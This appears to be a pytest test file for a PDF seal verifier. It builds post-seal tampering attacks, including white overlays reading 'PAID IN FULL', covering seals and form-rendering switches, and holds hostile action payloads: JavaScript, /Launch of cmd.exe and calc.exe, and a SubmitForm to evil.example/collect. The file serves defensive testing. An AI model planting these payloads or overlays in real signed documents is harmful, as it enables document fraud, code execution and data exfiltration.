"""What a revision appended after a seal may paint, run or switch on (issue 13, items 1-3).

pyHanko's difference analysis decides which *objects* may change after a seal — new signature
fields and their widgets among them — but not what those widgets paint or run, nor the form
settings that make viewers redraw fields. Research basis: Mainka, Mladenov, Rohlmann, Schwenk,
"Breaking the Specification: PDF Certification" (IEEE S&P 2021: Evil Annotation and Sneaky
Signature attacks) and "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS
2021). Every attack here is built with the attacker's ordinary tools (pyHanko's incremental
writer and signers, or the raw writer of tests/pdfkit.py), and each class is varied: widget
shapes, action types and triggers, form keys, trusted and untrusted timestamp authorities,
later seals over a seal, over content, or in free space.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Mapping
from io import BytesIO

import pytest
from hankokit import add_doc_timestamp, form_update, pyhanko_signer, seal_pdf, timestamper
from pdfkit import PdfBuilder, SamplePdf, make_pdf, stream_object
from pkikit import TestPki, make_pki
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from eseal.signing.report import VerificationReport
from eseal.signing.verify import verify_pdf

COVER_PAGE = (0, 0, 612, 792)
WHITE_BOX = b"q 1 1 1 rg 0 0 612 792 re f Q BT /Helv 36 Tf 72 650 Td (PAID IN FULL) Tj ET"


@pytest.fixture(autouse=True)
def _real_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    """pyHanko's signer reads the system clock, so the verifier's "now" must be real too."""
    monkeypatch.delenv("ESEAL_NOW", raising=False)


@pytest.fixture(scope="module")
def pki() -> TestPki:
    return make_pki()


@pytest.fixture(scope="module")
def rogue() -> TestPki:
    """Another PKI: its timestamp authority chains to a root the relying party never gave."""
    return make_pki()


def _lt(pki: TestPki, data: bytes, **kw: object) -> bytes:
    return seal_pdf(data, pki.seal, pki, timestamp=True, embed_validation_info=True,
                    dss_in_signed_revision=True, **kw)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def doc() -> SamplePdf:
    return make_pdf(pages=2)


@pytest.fixture(scope="module")
def sealed(pki: TestPki, doc: SamplePdf) -> bytes:
    """B-LT, visible seal at (400,80)-(560,240) on page 1 (text at the top, image at 72,500)."""
    return _lt(pki, doc.data, visible=True)


@pytest.fixture(scope="module")
def sealed_form(pki: TestPki) -> bytes:
    return _lt(pki, make_pdf(with_form=True).data)


def verify(data: bytes, pki: TestPki) -> VerificationReport:
    return verify_pdf(data, trust_roots=[pki.root.cert])


def _pdf(src: str, writer: IncrementalPdfFileWriter) -> generic.PdfObject:
    """PDF source text as a pyHanko object (the attacker writes entries by hand)."""
    return generic.read_object(BytesIO(src.encode("latin-1")),
                               container_ref=generic.Reference(0, 0, writer))


def later_timestamp(data: bytes, tsa: TestPki, *, box: tuple[int, int, int, int] | None = None,
                    paint: bytes | None = None, entries: Mapping[str, str] | None = None,
                    field_name: str = "DocTS1") -> bytes:
    """The attacker's tool: a document timestamp in a new field whose widget has ``box``,
    an appearance painting ``paint`` and extra widget ``entries`` (PDF source) — one
    incremental update, made with pyHanko's writer and timestamper."""
    from pyhanko.sign import fields, signers

    w = IncrementalPdfFileWriter(BytesIO(data))
    fields.append_signature_field(w, fields.SigFieldSpec(field_name, on_page=0, box=box))
    widget = next(f.get_object() for f in w.root["/AcroForm"]["/Fields"]
                  if f.get_object().get("/T") == field_name)
    if paint is not None:
        x0, y0, x1, y1 = box or (0, 0, 0, 0)
        ap = generic.StreamObject(
            {generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
             generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
             generic.pdf_name("/BBox"): generic.ArrayObject(
                 [generic.NumberObject(0), generic.NumberObject(0),
                  generic.NumberObject(x1 - x0), generic.NumberObject(y1 - y0)])},
            stream_data=paint)
        widget[generic.pdf_name("/AP")] = generic.DictionaryObject(
            {generic.pdf_name("/N"): w.add_object(ap)})
    for key, src in (entries or {}).items():
        widget[generic.pdf_name(key)] = _pdf(src, w)
    ts = signers.PdfTimeStamper(timestamper(tsa), field_name=field_name)
    out = BytesIO()
    asyncio.run(ts.async_timestamp_pdf(w, "sha256", output=out))
    return out.getvalue()


def codes(report: VerificationReport) -> set[str]:
    return report.problem_codes()


# ---------------------------------------------------------------------------------------------
# 1. painting over a sealed page


@pytest.mark.parametrize(("box", "paint"), [
    (COVER_PAGE, WHITE_BOX),                                  # the reported attack
    ((72, 700, 540, 760), b"q 1 1 1 rg 0 0 468 60 re f Q"),    # a strip over the first line
    ((300, 300, 310, 310), b""),                              # tiny, appearance paints nothing
    ((0, 0, 612, 792), None),                                 # visible rectangle, no /AP
], ids=["white-page", "strip-over-text", "tiny-empty", "no-appearance"])
def test_a_visible_document_timestamp_after_a_seal_is_invalid(
        pki: TestPki, sealed: bytes, box: tuple[int, int, int, int], paint: bytes | None
) -> None:
    """Even from the relying party's own trusted TSA: a document timestamp adds time, not
    ink; a visible widget is how the Evil Annotation attack paints over the sealed page."""
    report = verify(later_timestamp(sealed, pki, box=box, paint=paint), pki)
    assert report.verdict == "invalid" and report.exit_code == 1, report.all_problems()
    assert "TIMESTAMP_APPEARANCE_ADDED" in codes(report)
    assert report.seals[0].changes_after.status == "disallowed"


@pytest.mark.parametrize("entries", [
    {"/F": "2"},                       # hidden flag
    {"/F": "32"},                      # NoView
], ids=["hidden", "no-view"])
def test_a_hidden_or_zero_size_document_timestamp_widget_is_not_ink(
        pki: TestPki, sealed: bytes, entries: dict[str, str]) -> None:
    data = later_timestamp(sealed, pki, box=COVER_PAGE, paint=WHITE_BOX, entries=entries)
    report = verify(data, pki)
    assert report.verdict == "valid", report.all_problems()


def test_an_invisible_document_timestamp_from_the_trusted_tsa_keeps_the_seal_valid(
        pki: TestPki, sealed: bytes) -> None:
    report = verify(later_timestamp(sealed, pki), pki)
    assert report.verdict == "valid", report.all_problems()
    assert report.seals[0].changes_after.status == "allowed"
    assert report.seals[0].pades_level == "B-LTA"


@pytest.mark.parametrize("visible", [False, True], ids=["invisible", "visible"])
def test_a_document_timestamp_from_an_untrusted_tsa_is_not_silently_allowed(
        pki: TestPki, rogue: TestPki, sealed: bytes, visible: bool) -> None:
    data = later_timestamp(sealed, rogue, box=COVER_PAGE if visible else None,
                           paint=WHITE_BOX if visible else None)
    report = verify(data, pki)
    seal = report.seals[0]
    assert "LATER_TIMESTAMP_UNTRUSTED" in {p.code for p in seal.problems}
    if visible:
        assert report.verdict == "invalid" and report.exit_code == 1
    else:
        assert report.verdict == "indeterminate" and report.exit_code == 2
        assert "not chain" in seal.changes_after.details
    assert seal.pades_level != "B-LTA"


def test_eseal_style_b_lta_stays_valid(pki: TestPki, doc: SamplePdf) -> None:
    data = add_doc_timestamp(_lt(pki, doc.data, visible=True), pki)
    report = verify(data, pki)
    assert report.verdict == "valid", report.all_problems()
    assert report.seals[0].pades_level == "B-LTA"


@pytest.mark.parametrize(("box", "expected"), [
    ((420, 100, 580, 260), "LATER_SEAL_OVER_SEAL"),      # shifted onto the first seal
    ((400, 80, 560, 240), "LATER_SEAL_OVER_SEAL"),       # exactly on top of it
    ((60, 480, 220, 640), "LATER_SEAL_OVER_CONTENT"),    # over the image
    ((72, 690, 232, 850), "LATER_SEAL_OVER_CONTENT"),    # over the first line of text
    (COVER_PAGE, "LATER_SEAL_OVER_SEAL"),                # the whole page
], ids=["over-seal", "on-seal", "over-image", "over-text", "whole-page"])
def test_a_later_seal_may_not_cover_the_earlier_seal_or_page_content(
        pki: TestPki, sealed: bytes, box: tuple[int, int, int, int], expected: str) -> None:
    second = pki.issue_seal(name="第二测试有限公司")
    data = seal_pdf(sealed, second, pki, field_name="Seal2", timestamp=True,
                    embed_validation_info=True, dss_in_signed_revision=True, box=box)
    report = verify(data, pki)
    assert report.verdict == "invalid" and report.exit_code == 1, report.all_problems()
    assert expected in codes(report)
    first, later = report.seals
    assert first.verdict == "invalid" and later.verdict == "valid"


@pytest.mark.parametrize("box", [(200, 80, 360, 240), (40, 40, 120, 120), (400, 300, 560, 460)],
                         ids=["left-of-seal", "bottom-left-corner", "above-seal"])
def test_a_later_seal_in_free_space_keeps_both_valid(
        pki: TestPki, sealed: bytes, box: tuple[int, int, int, int]) -> None:
    second = pki.issue_seal(name="第二测试有限公司")
    data = seal_pdf(sealed, second, pki, field_name="Seal2", timestamp=True,
                    embed_validation_info=True, dss_in_signed_revision=True, box=box)
    report = verify(data, pki)
    assert report.verdict == "valid", report.all_problems()
    assert report.seals[0].changes_after.status == "allowed"


def _page_with(content: bytes, resources: str) -> bytes:
    b = PdfBuilder()
    catalog, pages, page = b.reserve(), b.reserve(), b.reserve()
    body = b.add(stream_object(content))
    b.set(page, f"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 612 792] "
                f"/Resources {resources} /Contents {body} 0 R >>")
    b.set(pages, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    b.set(catalog, f"<< /Type /Catalog /Pages {pages} 0 R >>")
    return b.build(catalog)


TYPE3 = ("<< /Font << /T3 << /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] "
         "/FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << >> /Encoding << /Differences [] >> "
         "/FirstChar 0 /LastChar 0 /Widths [0] >> >> >>")


@pytest.mark.parametrize(("content", "resources"), [
    (b"BT /T3 12 Tf 72 720 Td (x) Tj ET", TYPE3),
    (b"q 100 0 0 100 72 72 cm /PS1 Do Q",
     "<< /XObject << /PS1 << /Type /XObject /Subtype /PS /Length 0 >> >> >>"),
    (b"BT /F1 12 Tf (unterminated Tj ET", "<< >>"),
], ids=["type3-font", "postscript-xobject", "broken-content"])
def test_a_later_visible_seal_on_a_page_that_cannot_be_outlined_is_indeterminate(
        pki: TestPki, content: bytes, resources: str) -> None:
    """Where we cannot tell what the sealed page showed under the later widget, we say so."""
    first = _lt(pki, _page_with(content, resources))
    second = pki.issue_seal(name="第二测试有限公司")
    data = seal_pdf(first, second, pki, field_name="Seal2", timestamp=True,
                    embed_validation_info=True, dss_in_signed_revision=True,
                    box=(400, 80, 560, 240))
    report = verify(data, pki)
    assert report.verdict == "indeterminate" and report.exit_code == 2, report.all_problems()
    assert "LATER_APPEARANCE_UNDECIDED" in codes(report)
    invisible = seal_pdf(first, second, pki, field_name="Seal2", timestamp=True,
                         embed_validation_info=True, dss_in_signed_revision=True)
    assert verify(invisible, pki).verdict == "valid"


ANNOTATIONS = {
    "stamp": "/Subtype /Stamp /Name /Approved /AP << /N {ap} >>",
    "square": "/Subtype /Square /IC [1 1 1] /C [1 1 1] /AP << /N {ap} >>",
    "free-text": "/Subtype /FreeText /Contents (PAID IN FULL) /DA (/Helv 24 Tf 0 g)",
    "link-uri": "/Subtype /Link /A << /S /URI /URI (https://evil.example) >>",
    "text-field-widget": "/Subtype /Widget /FT /Tx /T (paid) /V (PAID) /AP << /N {ap} >>",
    "check-box-widget": "/Subtype /Widget /FT /Btn /T (paid) /V /Yes /AS /Yes "
                        "/AP << /N << /Yes {ap} >> >>",
    "sig-field-with-separate-widget": "/Subtype /Widget /Parent {field} /AP << /N {ap} >>",
}


@pytest.mark.parametrize("name", list(ANNOTATIONS))
def test_any_other_annotation_added_over_a_sealed_page_is_invalid(
        pki: TestPki, sealed: bytes, doc: SamplePdf, name: str) -> None:
    """The Evil Annotation family, written with the raw writer: whatever the subtype, an
    annotation added after sealing is refused (by pyHanko's analysis or by our review)."""
    from pdfkit import append_update, object_offset

    page, annot, ap, field = doc.page_ids[0], 990, 991, 992
    start = object_offset(sealed, page)
    body = sealed[sealed.index(b"obj", start) + 3:sealed.index(b"endobj", start)].strip()
    if b"/Annots" in body:
        body = body.replace(b"/Annots [", f"/Annots [{annot} 0 R ".encode(), 1)
    else:
        body = b"<< /Annots [" + f"{annot} 0 R".encode() + b"] " + body[2:]
    entries = ANNOTATIONS[name].replace("{ap}", f"{ap} 0 R").replace("{field}", f"{field} 0 R")
    objects: dict[int, bytes | str] = {
        page: body,
        annot: f"<< /Type /Annot {entries} /Rect [0 0 612 792] /F 4 /P {page} 0 R >>",
        ap: stream_object(WHITE_BOX, "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"),
    }
    if name == "sig-field-with-separate-widget":
        objects[field] = f"<< /FT /Sig /T (Approval) /Kids [{annot} 0 R] >>"
    report = verify(append_update(sealed, objects), pki)
    assert report.verdict == "invalid" and report.exit_code == 1, report.all_problems()
    assert codes(report) & {"MODIFIED_AFTER_SEALING", "LATER_SEAL_OVER_SEAL",
                            "LATER_SEAL_OVER_CONTENT", "UNSIGNED_FIELD_ADDED"}, codes(report)


@pytest.mark.parametrize("variant", ["widget-points-at-new-appearance",
                                     "appearance-stream-rewritten"])
def test_the_first_seals_own_appearance_may_not_be_redrawn(
        pki: TestPki, sealed: bytes, variant: str) -> None:
    """pyHanko's analysis refuses this already; our review refuses it on its own too
    (defence in depth: it must not depend on which objects pyHanko happens to whitelist)."""
    from pdfkit import append_update, object_offset
    from pyhanko.pdf_utils.reader import PdfFileReader

    from eseal.signing.modifications import review_after

    reader = PdfFileReader(BytesIO(sealed))
    widget_ref = reader.root["/AcroForm"]["/Fields"].raw_get(0)
    ap_ref = widget_ref.get_object()["/AP"].raw_get("/N")
    white = stream_object(b"q 1 1 1 rg 0 0 160 160 re f Q",
                          "/Type /XObject /Subtype /Form /BBox [0 0 160 160]")
    if variant == "appearance-stream-rewritten":
        objects: dict[int, bytes | str] = {ap_ref.idnum: white}
    else:
        at = object_offset(sealed, widget_ref.idnum)
        body = sealed[sealed.index(b"obj", at) + 3:sealed.index(b"endobj", at)].strip()
        objects = {widget_ref.idnum: body.replace(f"/N {ap_ref.idnum} 0 R".encode(),
                                                  b"/N 990 0 R"), 990: white}
        assert objects[widget_ref.idnum] != body
    data = append_update(sealed, objects)
    assert verify(data, pki).verdict == "invalid"
    later = PdfFileReader(BytesIO(data))
    found = review_after(later, later.xrefs.total_revisions - 2, [])
    assert "LATER_APPEARANCE_CHANGED" in {f.code for f in found}, found


# ---------------------------------------------------------------------------------------------
# 2. actions inside new widgets


JS = "<< /S /JavaScript /JS (app.alert\\('paid'\\)) >>"
ACTIONS = {
    "aa-page-open-javascript": {"/AA": f"<< /PO {JS} >>"},
    "aa-page-visible-javascript": {"/AA": f"<< /PV {JS} >>"},
    "aa-mouse-enter-launch": {"/AA": "<< /E << /S /Launch /F (calc.exe) >> >>"},
    "aa-focus-submitform": {"/AA": "<< /Fo << /S /SubmitForm /F << /FS /URL /F "
                                   "(https://evil.example/collect) >> >> >>"},
    "a-uri": {"/A": "<< /S /URI /URI (https://evil.example/pay) >>"},
    "a-javascript": {"/A": JS},
    "a-launch": {"/A": "<< /S /Launch /F (cmd.exe) >>"},
    "a-named-next-javascript": {"/A": f"<< /S /Named /N /NextPage /Next {JS} >>"},
}


@pytest.mark.parametrize("name", list(ACTIONS))
def test_an_action_in_a_widget_added_after_sealing_is_invalid(
        pki: TestPki, sealed: bytes, name: str) -> None:
    """The invisible timestamp widget of the issue with /AA page-open JavaScript, and its
    siblings: other triggers, other action types, /A as well as /AA."""
    report = verify(later_timestamp(sealed, pki, entries=ACTIONS[name]), pki)
    assert report.verdict == "invalid" and report.exit_code == 1, report.all_problems()
    assert "ACTION_ADDED_AFTER_SEALING" in codes(report)


def test_an_action_in_a_later_seals_widget_is_invalid(pki: TestPki, sealed: bytes) -> None:
    """The same class through a seal instead of a timestamp (pyHanko's signer fills a field
    the attacker prepared in the same update)."""
    from pyhanko.sign import fields, signers

    second = pki.issue_seal(name="第二测试有限公司")
    w = IncrementalPdfFileWriter(BytesIO(sealed))
    fields.append_signature_field(w, fields.SigFieldSpec("Seal2", on_page=0))
    widget = next(f.get_object() for f in w.root["/AcroForm"]["/Fields"]
                  if f.get_object().get("/T") == "Seal2")
    widget[generic.pdf_name("/AA")] = _pdf(f"<< /PO {JS} >>", w)
    out = BytesIO()
    asyncio.run(signers.PdfSigner(signers.PdfSignatureMetadata(field_name="Seal2"),
                                  pyhanko_signer(second, pki),
                                  timestamper=timestamper(pki)).async_sign_pdf(w, output=out))
    report = verify(out.getvalue(), pki)
    assert report.verdict == "invalid", report.all_problems()
    assert "ACTION_ADDED_AFTER_SEALING" in codes(report)


# ---------------------------------------------------------------------------------------------
# 3. form appearance regeneration switched on after sealing


Change = Callable[[generic.DictionaryObject, IncrementalPdfFileWriter], None]


def _set(key: str, src: str) -> Change:
    def change(form: generic.DictionaryObject, writer: IncrementalPdfFileWriter) -> None:
        form[generic.pdf_name(key)] = _pdf(src, writer)
    return change


OURS = {"FORM_SETTINGS_CHANGED"}
EITHER = {"FORM_SETTINGS_CHANGED", "MODIFIED_AFTER_SEALING"}  # pyHanko already refuses these
FORM_CHANGES: dict[str, tuple[Change, set[str]]] = {
    "need-appearances-true": (_set("/NeedAppearances", "true"), OURS),
    "need-appearances-one": (_set("/NeedAppearances", "1"), OURS),
    "default-appearance": (_set("/DA", "(/Helv 0 Tf 1 0 0 rg)"), OURS),
    "quadding": (_set("/Q", "2"), OURS),
    "default-resources": (_set("/DR", "<< /Font << /Helv << /Type /Font /Subtype /Type1 "
                                      "/BaseFont /Courier >> >> >>"), OURS),
    "xfa": (_set("/XFA", "[(template) (<template/>)]"), EITHER),
    "calculation-order": (_set("/CO", "[]"), EITHER),
    "sig-flags-lowered": (_set("/SigFlags", "1"), EITHER),
}


@pytest.mark.parametrize("name", list(FORM_CHANGES))
def test_changing_form_rendering_settings_after_sealing_is_invalid(
        pki: TestPki, sealed_form: bytes, name: str) -> None:
    """The shadow attack's switch: after sealing, /NeedAppearances true (or another /DA or
    /DR) makes viewers regenerate field appearances from values the seal never showed."""
    change, expected = FORM_CHANGES[name]
    report = verify(form_update(sealed_form, change), pki)
    assert report.verdict == "invalid" and report.exit_code == 1, report.all_problems()
    assert codes(report) & expected, codes(report)


@pytest.mark.parametrize("name", ["need-appearances-false", "rewritten-unchanged"])
def test_form_updates_that_change_no_rendering_stay_valid(
        pki: TestPki, sealed_form: bytes, name: str) -> None:
    """An explicit /NeedAppearances false is the default; a form dictionary written again
    unchanged changes nothing a viewer draws."""
    def same(form: generic.DictionaryObject, writer: IncrementalPdfFileWriter) -> None:
        return None

    change = _set("/NeedAppearances", "false") if name == "need-appearances-false" else same
    report = verify(form_update(sealed_form, change), pki)
    assert report.verdict == "valid", report.all_problems()
